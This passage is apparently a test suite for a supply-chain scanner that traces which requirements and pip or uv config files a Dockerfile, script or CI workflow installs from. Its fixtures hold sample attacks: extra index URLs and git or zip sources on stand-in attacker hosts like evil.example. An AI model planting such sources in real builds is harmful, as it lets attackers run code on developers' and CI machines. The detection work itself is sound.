import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  locateNamedFile,
  namedRequirementsFiles,
  shellCommands,
} from '../../../src/deps/parsers/python/install-requirements.js';
import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
import type { ScanResult } from '../../../src/core/result.js';
import { scanAsCli, scanWith } from '../../helpers/scan.js';
import { tempTrees } from '../../helpers/temp-tree.js';

const CASES = path.resolve(import.meta.dirname, '../../../fixtures/python/cases');
const tree = tempTrees('cp-pip-named-');
const ids = (r: ScanResult) =>
  r.findings
    .filter((f) => f.ruleId !== 'CPP050')
    .map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`)
    .sort();

/**
 * pip opens the file `-r` / `-c` names whatever it is called (`req_file.parse_requirements` → `get_file_content`):
 * a Dockerfile's `pip install -r /deps/pins.lst` reads an extra index from a file no requirements*.txt name gives away.
 */
describe('requirements files named by the install commands of Dockerfiles, workflows and scripts', () => {
  it('are read as pip reads them; what cannot be read is CPP003 at the install', async () => {
    const r = await scanWith(path.join(CASES, 'install-named-requirements'), [pythonDepsStage]);
    expect(ids(r)).toEqual(
      [
        // `${{ matrix.requirements }}`: chosen when the workflow runs.
        'CPP003@.github/workflows/ci.yml:8',
        // `-rci/dev.deps` in the workflow: its --trusted-host.
        'CPP071@ci/dev.deps:1',
        // `-r /deps/pins.lst` after `COPY deps /deps`: the repository's deps/pins.lst, its extra index.
        'CPP012@deps/pins.lst:1',
        'CPP070@deps/pins.lst:1',
        // A URL and a missing constraints file; frozen.txt is written by the script, pyproject.toml is uv's own.
        'CPP003@scripts/setup.sh:5',
      ].sort(),
    );
    // `--constraint=ci/limits.lst` is read as constraints: its `torch>=2` installs nothing, so no CPP010.
    expect(r.findings.filter((f) => f.location.path === 'ci/limits.lst')).toEqual([]);
    const unread = r.findings.find((f) => f.location.path === 'scripts/setup.sh');
    expect(unread?.evidence?.['files']).toBe('https://example.com/requirements.txt missing/limits.txt');
  });

  it('read the files uv pip sync / pip-sync install; a bare word that is no file is no finding', async () => {
    const dir = tree({
      'scripts/deploy.sh': 'uv pip sync --python 3.12 prod.lock\npip-sync ../ci/dev.lock missing.lock\n',
      'scripts/prod.lock': '--extra-index-url https://sync.example/simple\nx==1\n',
      'ci/dev.lock': '--trusted-host tls-off.example\ny==1\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      ['CPP071@ci/dev.lock:1', 'CPP012@scripts/prod.lock:1', 'CPP070@scripts/prod.lock:1'].sort(),
    );
  });

  // uv-cli `AddArgs` (`-r` / `-c`), `RunArgs` / `ToolInstallArgs` / `ToolRunArgs` (`--with-requirements`), pipx
  // main.py's `inject -r`, pipenv cli/options.py `requirementstxt_option`.
  it('read the files uv add, uv run / uv tool / uvx --with-requirements, pipx inject and pipenv install name', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN uv add -r deps/add.lst --constraints=deps/add-limits.lst', // 2
        'RUN uv run --with-requirements deps/run.lst pytest -r fE', // 3
        'RUN uv tool install --with-requirements=deps/tool.lst ruff && uvx --with-requirements deps/uvx.lst black', // 4
        'RUN pipx inject app -r deps/inject.lst && pipenv install --requirements deps/pipenv.lst', // 5
      ].join('\n'),
      'deps/add.lst': 'a @ git+https://github.com/o/add\n',
      'deps/add-limits.lst': 'torch>=2\n',
      'deps/run.lst': 'r @ git+https://github.com/o/run\n',
      'deps/tool.lst': 't @ git+https://github.com/o/tool\n',
      'deps/uvx.lst': 'x @ git+https://github.com/o/uvx\n',
      'deps/inject.lst': 'i @ git+https://github.com/o/inject\n',
      'deps/pipenv.lst': 'p @ git+https://github.com/o/pipenv\n',
      fE: '--index-url https://not-a-requirements-file.example/simple\n',
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    expect(ids(r).filter((id) => id.startsWith('CPP014'))).toEqual(
      [
        'CPP014@deps/add.lst:1',
        'CPP014@deps/run.lst:1',
        'CPP014@deps/tool.lst:1',
        'CPP014@deps/uvx.lst:1',
        'CPP014@deps/inject.lst:1',
        'CPP014@deps/pipenv.lst:1',
      ].sort(),
    );
    // `-c` is a constraints file (its unpinned `torch>=2` installs nothing); pytest's `-r fE` is no file of uv's.
    expect(r.findings.filter((f) => ['deps/add-limits.lst', 'fE'].includes(f.location.path))).toEqual([]);
    expect(
      namedRequirementsFiles(shellCommands('uv add -c deps/add-limits.lst'), 'Dockerfile').map((n) => n.constraint),
    ).toEqual([true]);
  });

  it('in a Makefile and a GitLab CI file too', async () => {
    const dir = tree({
      Makefile: 'install:\n\t@python -m pip install -r deps/dev.lst\n',
      '.gitlab-ci.yml': 'test:\n  script:\n    - pip install -r deps/ci.lst\n',
      'deps/dev.lst': '--extra-index-url https://make.example/simple\nx==1\n',
      'deps/ci.lst': '-i https://gitlab.example/simple\ny==1\n',
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    const hosts = r.findings.filter((f) => f.ruleId === 'CPP070').map((f) => f.evidence?.['host']);
    expect(hosts.sort()).toEqual(['gitlab.example', 'make.example']);
  });

  // uv-cli `GlobalArgs.directory`: "Change to the given directory prior to running the command".
  it("read a file uv's --directory names in that folder, not the one of the same name beside the install", async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN uv --directory app pip install -r deps.lst', // 2
        'RUN uv --directory app run tool.py', // 3
      ].join('\n'),
      'deps.lst': 'requests==2.31.0\n',
      'app/deps.lst': '--extra-index-url https://app.example/simple\nrequests==2.31.0\n',
      'tool.py': '# /// script\n# dependencies = ["requests==2.31.0"]\n# ///\n',
      'app/tool.py': '# /// script\n# dependencies = ["t @ git+https://github.com/o/app-tool"]\n# ///\n',
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    expect(ids(r).filter((id) => /^CPP01[24]|^CPP070/.test(id))).toEqual(
      ['CPP012@app/deps.lst:1', 'CPP070@app/deps.lst:1', 'CPP014@app/tool.py:2'].sort(),
    );
  });

  // uv-cli `PipCompileArgs` (`src_file`, `-c`, `--overrides`, `-b`), pip-tools' `pip-compile` (`src_files`, `-c`):
  // the compile resolves against the indexes its inputs name, building what has no wheel; its output is installed.
  it('read the inputs uv pip compile / pip-compile resolve: their options judged, their ranges no lock', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12',
        'RUN uv pip compile deps/base.lst -o /tmp/r.txt --python-version 3.12 && uv pip sync /tmp/r.txt',
        'RUN pip-compile --output-file deps/lock.lst deps/tools.lst -c deps/pins.lst',
        'RUN uv pip compile --overrides=deps/over.lst -b deps/build.lst deps/tools.lst missing.lst',
      ].join('\n'),
      'deps/base.lst': '--extra-index-url https://evil.example/simple\nrequests\nflask>=2\n',
      'deps/tools.lst': 'black\nisort\nrogue @ https://e.example/rogue.zip\n',
      // The output, written by the compile: no input.
      'deps/lock.lst': '--index-url https://output.example/simple\nx==1.0\n',
      'deps/pins.lst': '--trusted-host pins.example\nrequests==2.31.0\n',
      'deps/over.lst': '--find-links https://over.example/wheels\nflask==3.0.0\n',
      'deps/build.lst': 'setuptools>=68\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP012@deps/base.lst:1',
        'CPP070@deps/base.lst:1',
        'CPP015@deps/tools.lst:3',
        'CPP071@deps/pins.lst:1',
        'CPP070@deps/over.lst:1',
      ].sort(),
    );
  });

  it('read a compile input an install names by -r as the install reads it', async () => {
    const dir = tree({
      Dockerfile: 'FROM python:3.12\nRUN uv pip compile deps.lst -o r.txt\nRUN pip install -r deps.lst\n',
      'deps.lst': 'evil>=1\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP010@deps.lst:1']);
  });

  it("read the file a RUN's cd leads to, not a same-named file elsewhere", async () => {
    const dir = tree({
      Dockerfile: 'FROM python:3.12\nCOPY app /app\nRUN cd /app && pip install -r deps.lst\n',
      'app/deps.lst': '--extra-index-url https://evil.example/simple\nx==1\n',
      // Not what the install reads: its index is no finding.
      'svc/deps.lst': '--extra-index-url https://other.example/simple\ny==1\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP012@app/deps.lst:1', 'CPP070@app/deps.lst:1']);
  });

  // A shell script is one shell: its `cd` holds for the lines after it, where a Dockerfile's next `RUN` starts afresh.
  it("read the file a script's cd on an earlier line leads to, not a same-named file elsewhere", async () => {
    const dir = tree({
      'install.sh': '#!/bin/sh\nset -e\ncd app\npip install -r deps.lst\n',
      'app/deps.lst': 'evil @ git+https://github.com/attacker/evil@main\n',
      // Not what the install reads: pinned, no finding.
      'deps.lst': 'six==1.16.0\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP014@app/deps.lst:1']);
  });

  // BuildKit's dispatchCopy writes a COPY heredoc's body as the file at its destination (`<<-` strips leading tabs,
  // a quoted name is the same terminator): the install reads those lines, found where the Dockerfile holds them.
  it('read a COPY heredoc body as the requirements file it writes, one finding per cause', async () => {
    const dir = tree({
      Dockerfile: [
        '# syntax=docker/dockerfile:1',
        'FROM python:3.12',
        'COPY <<EOF /tmp/r.txt',
        'requests>=2',
        '--extra-index-url https://evil.example/simple',
        'EOF',
        'WORKDIR /w',
        "COPY <<-'END' c.txt",
        '\tsix',
        '\tEND',
        'RUN pip install -r /tmp/r.txt -r c.txt',
        '',
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
      'CPP010@Dockerfile:4',
      'CPP010@Dockerfile:9',
      'CPP012@Dockerfile:5',
      'CPP070@Dockerfile:5',
    ]);
  });

  // dispatchCopy makes each heredoc a file named after it: several, or one into a folder, land as those names there.
  it('read the bodies of several COPY heredocs, or one into a folder, as the files they write', async () => {
    const dir = tree({
      Dockerfile: [
        '# syntax=docker/dockerfile:1',
        'FROM python:3.12',
        'WORKDIR /app',
        'COPY --chmod=644 <<req.txt <<"dev.txt" reqs/',
        '--extra-index-url https://evil.example/simple',
        'req.txt',
        'evil @ git+https://github.com/attacker/evil@main',
        'dev.txt',
        'COPY <<EOF ./',
        'flask>=2',
        'EOF',
        'RUN pip install -r reqs/req.txt -r /app/reqs/dev.txt -r EOF',
        '',
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
      'CPP010@Dockerfile:10',
      'CPP012@Dockerfile:5',
      'CPP014@Dockerfile:7',
      'CPP070@Dockerfile:5',
    ]);
  });

  // BuildKit's dispatchRun hands the heredoc to the shell as stdin of `cat` / `tee`, which write it whole to the file.
  it('read the body a RUN writes to a file with cat or tee as the requirements file it is', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12',
        'WORKDIR /srv',
        "RUN cat <<'EOF' > reqs.txt && pip install -r reqs.txt",
        'flask>=2',
        'EOF',
        'RUN tee /opt/c.txt <<EOF >/dev/null',
        'evil @ git+https://github.com/attacker/evil@main',
        'EOF',
        'RUN pip install -r /opt/c.txt',
        '',
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP010@Dockerfile:4', 'CPP014@Dockerfile:7']);
  });

  // pip reads the file as it is when `pip install` runs: a write after it, one that may not run, or one a later
  // command changes is not what it read.
  it('read the COPY’d file an install reads before a RUN heredoc write; an unsure write is CPP003', async () => {
    const evil = '--extra-index-url https://evil.example.com/simple\nrequests\n';
    const dockerfile = (run: string) =>
      `FROM python:3.12\nWORKDIR /app\nCOPY pkgs.list .\nRUN ${run}\nrequests==2.31.0\nEND\n`;
    const scan = async (run: string) =>
      ids(await scanWith(tree({ 'pkgs.list': evil, Dockerfile: dockerfile(run) }), [pythonDepsStage]));
    expect(await scan('pip install -r pkgs.list && cat > pkgs.list <<END')).toEqual([
      'CPP010@pkgs.list:2',
      'CPP012@pkgs.list:1',
      'CPP070@pkgs.list:1',
    ]);
    expect(await scan('false && cat > pkgs.list <<END ; pip install -r pkgs.list')).toEqual(['CPP003@Dockerfile:4']);
    expect(
      await scan(
        'cat > pkgs.list <<END && echo "--extra-index-url https://evil.example.com/simple" >> pkgs.list && pip install -r pkgs.list',
      ),
    ).toEqual(['CPP003@Dockerfile:4']);
  });

  // The shell runs each RUN on the image the last one left: a later RUN's `>>`, `sed -i` or `cp` changes what the
  // COPY put there, so the repository's file is no longer what pip reads.
  it('say a COPY’d file a later RUN changes is unread, not read as the repository has it', async () => {
    const scan = async (run: string, install = 'RUN pip install -r pkgs.list') =>
      ids(
        await scanWith(
          tree({
            'pkgs.list': 'requests==2.31.0\n',
            Dockerfile: `FROM python:3.12\nWORKDIR /app\nCOPY pkgs.list .\nRUN ${run}\n${install}\n`,
          }),
          [pythonDepsStage],
        ),
      );
    expect(await scan('echo "evil @ https://evil.example/e.tar.gz" >> pkgs.list')).toEqual(['CPP003@Dockerfile:5']);
    expect(await scan("sed -i 's/requests.*/evil/' /app/pkgs.list")).toEqual(['CPP003@Dockerfile:5']);
    expect(await scan('cp /opt/other.list pkgs.list')).toEqual(['CPP003@Dockerfile:5']);
    // Changed and read by the same RUN, or read by an install before the change: as the shell orders them.
    expect(await scan('echo evil >> pkgs.list && pip install -r pkgs.list', '')).toEqual(['CPP003@Dockerfile:4']);
    expect(await scan('pip install -r pkgs.list && echo evil >> pkgs.list', '')).toEqual([]);
    // A file the build makes whole (`pip freeze >`) is the build's own, as before; another file is no change.
    expect(await scan('pip freeze > pkgs.list')).toEqual([]);
    expect(await scan('pip freeze > /tmp/log.txt 2>&1')).toEqual([]);
  });

  // The shell gives a RUN's heredoc to its command as stdin; `pip install -r /dev/stdin` reads it as requirements.
  it('read a heredoc an install takes as -r /dev/stdin, directly or through a pipe, for that install only', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12',
        'RUN pip install --no-cache-dir -r /dev/stdin <<EOF',
        'evil @ git+https://github.com/attacker/evil@main',
        'EOF',
        "RUN cat <<'EOF' | uv pip install --system -r /dev/stdin",
        '--extra-index-url https://evil.example/simple',
        'flask>=2',
        'EOF',
        'RUN pip install -r /dev/stdin',
        '',
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
      'CPP003@Dockerfile:9',
      'CPP010@Dockerfile:7',
      'CPP012@Dockerfile:6',
      'CPP014@Dockerfile:3',
      'CPP070@Dockerfile:6',
    ]);
  });

  // The runner hands a step's `run: |` block to one shell: a `cd` on one of its lines moves the lines after it, and
  // the next step starts again at the workspace.
  it('read the file a CI block names after its own cd, and the next step’s from the root', async () => {
    const workflow = [
      'on: push',
      'jobs:',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: |',
      '          cd sub',
      '',
      '          pip install -r reqs.lst',
      '      - run: pip install -r reqs.lst',
      '',
    ].join('\n');
    const dir = tree({
      '.github/workflows/ci.yml': workflow,
      'sub/reqs.lst': '--extra-index-url https://evil.example/simple\nnumpy==1.26.0\n',
      'reqs.lst': 'flask>=2\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
      'CPP010@reqs.lst:1',
      'CPP012@sub/reqs.lst:1',
      'CPP070@sub/reqs.lst:1',
    ]);
  });

  // gitlab-runner writes a job's before_script and script items into one script one shell runs (shells/abstract.go
  // writeUserScript); after_script is a shell of its own, back at the project folder.
  it('read the file a GitLab script item names after an earlier item’s cd, and after_script’s from the root', async () => {
    const gitlab = [
      'build:',
      '  before_script:',
      '    - cd sub',
      '  script:',
      '    - "python -V"',
      '    - pip install -r reqs.lst',
      '  after_script:',
      '    - pip install -r other.lst',
      'test:',
      '  script:',
      '    - pip install -r other.lst',
      '',
    ].join('\n');
    const dir = tree({
      '.gitlab-ci.yml': gitlab,
      'sub/reqs.lst': '--extra-index-url https://evil.example/simple\nnumpy==1.26.0\n',
      'reqs.lst': 'flask>=2\n',
      'other.lst': 'requests>=2\n',
      'sub/other.lst': 'evil>=1\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
      'CPP010@other.lst:1',
      'CPP012@sub/reqs.lst:1',
      'CPP070@sub/reqs.lst:1',
    ]);
  });

  // A `run:` step starts in its `working-directory`, else the job's, else the workflow's `defaults.run`.
  it('read the file a workflow step names from its working-directory', async () => {
    const workflow = [
      'on: push',
      'defaults:',
      '  run:',
      '    working-directory: ./sub/',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: pip install -r reqs.lst',
      '  b:',
      '    runs-on: ubuntu-latest',
      '    defaults:',
      '      run:',
      '        working-directory: deep',
      '    steps:',
      '      - run: pip install -r reqs.lst',
      '      - working-directory: .',
      '        run: pip install -r other.lst',
      '',
    ].join('\n');
    const dir = tree({
      '.github/workflows/ci.yml': workflow,
      'sub/reqs.lst': '--extra-index-url https://evil.example/simple\nnumpy==1.26.0\n',
      'deep/reqs.lst': '--index-url http://plain.example/simple\nnumpy==1.26.0\n',
      'reqs.lst': 'flask>=2\n',
      'other.lst': 'requests>=2\n',
      'sub/other.lst': 'evil>=1\n',
    });
    const found = ids(await scanWith(dir, [pythonDepsStage]));
    expect(found).toContain('CPP070@sub/reqs.lst:1');
    expect(found.filter((f) => f.startsWith('CPP') && f.includes('@deep/reqs.lst')).length).toBeGreaterThan(0);
    expect(found).toContain('CPP010@other.lst:1');
    expect(found.filter((f) => f.endsWith('@reqs.lst:1') || f.includes('@sub/other.lst'))).toEqual([]);
  });

  it('read the named file as requirements even where another command names it by -c', async () => {
    const dir = tree({
      Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
      'deps.lst': 'evil>=1\n',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP010@deps.lst:1']);
  });

  // pip's `req_file.parse_requirements` never looks at the name: `-r requirements.in` installs its ranges as written.
  it('read a *.in an install names by -r as installed requirements, not as a compile input', async () => {
    const files = { 'requirements.in': 'requests\nflask>=2\n', 'tools/dev.in': 'black\nisort\n' };
    const installed = tree({
      ...files,
      Dockerfile: 'FROM python:3.12\nCOPY requirements.in .\nRUN pip install -r requirements.in\n',
    });
    const r = await scanWith(installed, [pythonDepsStage]);
    expect(ids(r)).toEqual(['CPP010@requirements.in:1']);
    // A *.in no catalogue knows by name (found only because the install names it) is installed all the same.
    const uncatalogued = tree({
      ...files,
      Dockerfile: 'FROM python:3.12\nRUN pip install -r requirements.in\nRUN pip install -r tools/dev.in\n',
    });
    expect(ids(await scanWith(uncatalogued, [pythonDepsStage]))).toEqual([
      'CPP010@requirements.in:1',
      'CPP010@tools/dev.in:1',
    ]);
    expect(r.findings[0]!.message).toContain('an install command names this *.in itself with -r');
    // Only compiled, or named by no install: the *.in stays a compile's input.
    const compiled = tree({ ...files, Dockerfile: 'FROM python:3.12\nRUN pip-compile requirements.in\n' });
    expect(ids(await scanWith(compiled, [pythonDepsStage]))).toEqual([]);
  });
});

/**
 * pip's `Configuration._iter_config_files` loads the file PIP_CONFIG_FILE names (none when it is os.devnull), uv the
 * UV_CONFIG_FILE one, whatever they are called: their indexes are the install's as a pip.conf's / uv.toml's are.
 */
describe('configuration files PIP_CONFIG_FILE / UV_CONFIG_FILE name', () => {
  it('are read as pip.conf and uv.toml', async () => {
    const dir = tree({
      Dockerfile: 'FROM python:3.12\nCOPY ci/pip-ci.cfg /etc/pip-ci.cfg\nENV PIP_CONFIG_FILE=/etc/pip-ci.cfg\n',
      'ci/pip-ci.cfg': '[global]\nextra-index-url = https://cfg.example/simple\n',
      '.github/workflows/ci.yml':
        'on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    env:\n      UV_CONFIG_FILE: ci/uv-ci\n    steps:\n      - run: uv sync\n',
      'ci/uv-ci': '[[index]]\nname = "corp"\nurl = "https://uvcfg.example/simple"\n',
      'scripts/quiet.sh': 'export PIP_CONFIG_FILE=/dev/null\npip install x==1\n',
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    const got = r.findings.map(
      (f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}=${String(f.evidence?.['host'])}`,
    );
    expect(got.sort()).toEqual([
      'CPP012@ci/pip-ci.cfg:2=cfg.example',
      'CPP070@ci/pip-ci.cfg:2=cfg.example',
      'CPP070@ci/uv-ci:1=uvcfg.example',
    ]);
  });
});

/**
 * pip reads its configuration from fixed paths (configuration.py `get_configuration_files`: `/etc/pip.conf`,
 * `~/.config/pip/pip.conf`, a virtualenv's `pip.conf`), so a file a build copies there is read whatever the
 * repository calls it: its indexes and its `no-binary` are every later install's.
 */
describe('a file a Dockerfile or script copies to a pip.conf', () => {
  it('is read as pip.conf; a copy from another stage, or to another name, is not', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12',
        'COPY --chown=app ci/pip-settings.ini /etc/pip.conf',
        'COPY --from=base /ci/other.ini /etc/pip.conf',
        'COPY ci/other.ini /etc/other.conf',
        'RUN pip install six==1.16.0',
        '',
      ].join('\n'),
      'ci/pip-settings.ini': '[global]\nindex-url = https://copied.example/simple\nno-binary = :all:\n',
      'ci/other.ini': '[global]\nindex-url = https://other.example/simple\n',
      'setup.sh': 'mkdir -p ~/.config/pip && cp ci/user.cfg ~/.config/pip/pip.conf && pip install six==1.16.0\n',
      'ci/user.cfg': '[install]\ntrusted-host = user.example\n',
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    const got = r.findings.map(
      (f) =>
        `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}=${String(f.evidence?.['host'] ?? f.evidence?.['names'])}`,
    );
    expect(got.sort()).toEqual([
      'CPP070@ci/pip-settings.ini:2=copied.example',
      'CPP071@ci/user.cfg:2=user.example',
      'CPP074@ci/pip-settings.ini:3=:all:',
    ]);
  });
});

describe('a Dockerfile naming thousands of files', () => {
  it('is one CPP003 that counts every name, those past the bound included', async () => {
    const lines = Array.from({ length: 300 }, (_, i) => `RUN pip install -r /deps/missing-${i}.lst`);
    const r = await scanWith(tree({ Dockerfile: `FROM python:3.12\n${lines.join('\n')}\n` }), [pythonDepsStage]);
    expect(r.findings.map((f) => [f.ruleId, f.evidence?.['count']])).toEqual([['CPP003', 300]]);
  });

  it('counts the scripts past the bound in the same CPP003, and reads the first ones', async () => {
    const files: Record<string, string> = {};
    const runs: string[] = [];
    for (let i = 0; i < 300; i++) {
      files[`tools/t${i}.py`] = '# /// script\n# dependencies = ["six==1.16.0"]\n# ///\n';
      runs.push(`RUN uv run tools/t${i}.py`);
    }
    files['tools/t0.py'] = '# /// script\n# dependencies = ["x @ git+https://github.com/o/x"]\n# ///\n';
    const r = await scanWith(
      tree({ ...files, Dockerfile: `FROM python:3.12\nRUN pip install -r /deps/missing.lst\n${runs.join('\n')}\n` }),
      [pythonDepsStage],
    );
    expect(r.findings.map((f) => `${f.ruleId}@${f.location.path}:${String(f.evidence?.['count'] ?? '')}`)).toEqual([
      'CPP003@Dockerfile:45',
      'CPP014@tools/t0.py:',
    ]);
  });
});

/** Without any lockfile the stage still runs: pip.conf, a Dockerfile's PIP_* and its named files are pip's input. */
describe('the Python stage in the whole pipeline, with no requirements*.txt or lockfile in the tree', () => {
  it.each([
    { name: 'pip.conf alone', files: { 'pip.conf': '[global]\nextra-index-url = https://evil.example/simple\n' } },
    {
      name: 'a Dockerfile alone',
      files: { Dockerfile: 'FROM python:3.12\nENV PIP_EXTRA_INDEX_URL=https://evil.example/simple\n' },
    },
    {
      name: 'a Dockerfile and the file its pip install names',
      files: {
        Dockerfile: 'FROM python:3.12\nRUN pip install -r pins.lst\n',
        'pins.lst': '-i https://evil.example/simple\nx==1\n',
      },
    },
    {
      name: 'a conda environment.yml alone',
      files: { 'environment.yml': 'dependencies:\n  - pip:\n    - --extra-index-url https://evil.example/simple\n' },
    },
  ])('$name: CPP070 for evil.example', async ({ files }) => {
    const r = await scanAsCli(tree(files));
    expect(r.findings.filter((f) => f.ruleId === 'CPP070').map((f) => f.evidence?.['host'])).toEqual(['evil.example']);
  });
});

/**
 * A YAML file is taken for a conda environment by its name alone (isCondaEnvironmentFile), a guess that also takes
 * a Kubernetes `prod-environment.yaml`: too big to read, it is said at note level, as not read as a conda
 * environment; the same file a `conda env create -f` names is one an install reads, CPP001 at the rule's level.
 */
describe('a conda environment file too big to read', () => {
  const big = `kind: ConfigMap\ndata:\n  blob: "${'x'.repeat(5 * 1024 * 1024)}"\n`;
  const unread = (r: ScanResult) =>
    r.findings.filter((f) => f.ruleId === 'CPP001').map((f) => `${f.location.path}:${f.level ?? 'error'}`);

  it('found only by its name: a note, not an error', async () => {
    const r = await scanWith(tree({ 'deploy/prod-environment.yaml': big }), [pythonDepsStage]);
    expect(unread(r)).toEqual(['deploy/prod-environment.yaml:note']);
    expect(r.findings[0]!.message).toContain('was not read as a conda environment');
  });

  it('named by conda env create -f: CPP001 as for any file an install reads', async () => {
    const files = {
      'deploy/prod-environment.yaml': big,
      'setup.sh': 'conda env create -f deploy/prod-environment.yaml\n',
    };
    expect(unread(await scanWith(tree(files), [pythonDepsStage]))).toEqual(['deploy/prod-environment.yaml:error']);
  });
});

describe('namedRequirementsFiles', () => {
  it.each([
    ['RUN pip install -r a.txt', ['a.txt:r']],
    ['RUN python3 -m pip install --no-deps -ra.lst --constraint=c.lst', ['a.lst:r', 'c.lst:c']],
    ['uv pip install --requirements x.lst -c y.lst', ['x.lst:r', 'y.lst:c']],
    ['RUN /opt/venv/bin/pip3.12 install \\\n  --requirement "q u.lst"', ['q u.lst:r']],
    // pip wheel / download read `-r` / `-c` files as install does (`RequirementCommand.get_requirements`).
    ['pip download -r a.lst && pip wheel -w /w -c b.lst', ['a.lst:r', 'b.lst:c']],
    // Not an install, or past the end of one: the option belongs to another command.
    ['pip list -r a.lst', []],
    ['pip install foo && grep -r needle src', []],
    ['pip install foo; sort -c x', []],
    ['# pip install -r commented.lst', []],
    // Positional files of `uv pip sync` / pip-tools' `pip-sync` (p): an option's value may be among them.
    ['uv pip sync --python 3.12 deps.lock -c c.lst', ['3.12:p', 'deps.lock:p', 'c.lst:c']],
    ['pip-sync ci/a.lock ci/b.lock', ['ci/a.lock:p', 'ci/b.lock:p']],
    // A Makefile recipe's quiet `@`.
    ['dev:\n\t@pip install -r deps/dev.lst', ['deps/dev.lst:r']],
    // Global options before the command (pip's `parse_command`, uv's clap `global = true`, pipx's root parser);
    // uv's `--directory` runs the command in that folder, its `--project` leaves relative paths as they are.
    ['pip --isolated --cache-dir /c install -r a.lst', ['a.lst:r']],
    ['uv -q --project app add -r b.lst', ['b.lst:r']],
    ['uv --directory app pip --no-cache install -r c.lst -c /abs/d.lst', ['app/c.lst:r', '/abs/d.lst:c']],
    ['uv --directory=svc pip sync ../ci/x.lock', ['ci/x.lock:p']],
    ['uv tool --directory t run --with-requirements r.lst x', ['t/r.lst:r']],
    // clap takes uv's global `--directory` after the command too, the last one given counting for the whole command;
    // after the program `uvx` runs, the words are that program's.
    ['uv pip install -r c.lst --directory app', ['app/c.lst:r']],
    ['uv --directory a pip sync x.lock --directory=svc', ['svc/x.lock:p']],
    ['uv add -r r.lst --directory app -c c.lst', ['app/r.lst:r', 'app/c.lst:c']],
    ['uvx --with-requirements r.lst --directory t ruff --directory x', ['t/r.lst:r']],
    ['pipx --verbose inject app -r e.lst', ['e.lst:r']],
    // A `cd` moves the commands after it on the line; a subshell's ends at its `)`; one it cannot follow leaves names.
    ['RUN cd app && pip install -r r.lst', ['app/r.lst:r']],
    ['cd /srv; cd api && pip install -r r.lst -c ../c.lst', ['/srv/api/r.lst:r', '/srv/c.lst:c']],
    ['( cd app && pip install -r a.lst ) && pip install -r b.lst', ['app/a.lst:r', 'b.lst:r']],
    ['pushd tools && uv --directory x pip install -r r.lst', ['tools/x/r.lst:r']],
    ['cd $APP && pip install -r r.lst && cd sub && pip install -r s.lst', ['r.lst:r', 's.lst:r']],
    // sh's operators need no spaces around them: a subshell's parentheses, `&&`, `||`, `;`, `|` split words.
    ['RUN (cd app && pip install -r a.lst)', ['app/a.lst:r']],
    ['(cd app&&pip install -r a.lst)||pip install -r b.lst', ['app/a.lst:r', 'b.lst:r']],
    ['cd app;pip install -r a.lst|tee log', ['app/a.lst:r']],
    [
      '(cd a && (cd b && pip install -r x.lst) && pip install -r y.lst) && pip install -r z.lst',
      ['a/b/x.lst:r', 'a/y.lst:r', 'z.lst:r'],
    ],
    // A `{ …; }` group runs in the shell itself: its `cd` holds after the `}`.
    ['{ cd lib; pip install -r b.lst; } && pip install -r c.lst', ['lib/b.lst:r', 'lib/c.lst:r']],
    // What an expansion or quotes hold is one word; a redirection's `&` is no operator.
    ['pip install -r "$(ls app/*.lst)" 2>&1 | tee log', ['$(ls app/*.lst):r']],
    ['pip install -r "a (b).lst";pip install -r c.lst', ['a (b).lst:r', 'c.lst:r']],
  ])('%j', (text, want) => {
    const got = namedRequirementsFiles(shellCommands(text), 'Dockerfile').map(
      (n) => `${n.written}:${n.positional === true ? 'p' : n.constraint ? 'c' : 'r'}`,
    );
    expect(got).toEqual(want);
  });

  // A script's lines run in one shell (a `cd` holds until a `popd` or the `)` of its subshell); a Dockerfile's
  // `RUN` lines each start where the WORKDIR is.
  it.each([
    ['cd app\npip install -r a.lst', 'run.sh', ['app/a.lst:r']],
    ['cd app\npip install -r a.lst', 'Dockerfile', ['a.lst:r']],
    ['pushd app\npip install -r a.lst\npopd\npip install -r b.lst', 'ci/run.bash', ['app/a.lst:r', 'b.lst:r']],
    ['(\n  cd app\n  pip install -r a.lst\n)\npip install -r b.lst', 'run.sh', ['app/a.lst:r', 'b.lst:r']],
    ['cd "$ROOT"\ncd sub\npip install -r a.lst', 'run.sh', ['a.lst:r']],
    ['popd\npip install -r a.lst', 'run.sh', ['a.lst:r']],
  ])('%j in %s', (text, file, want) => {
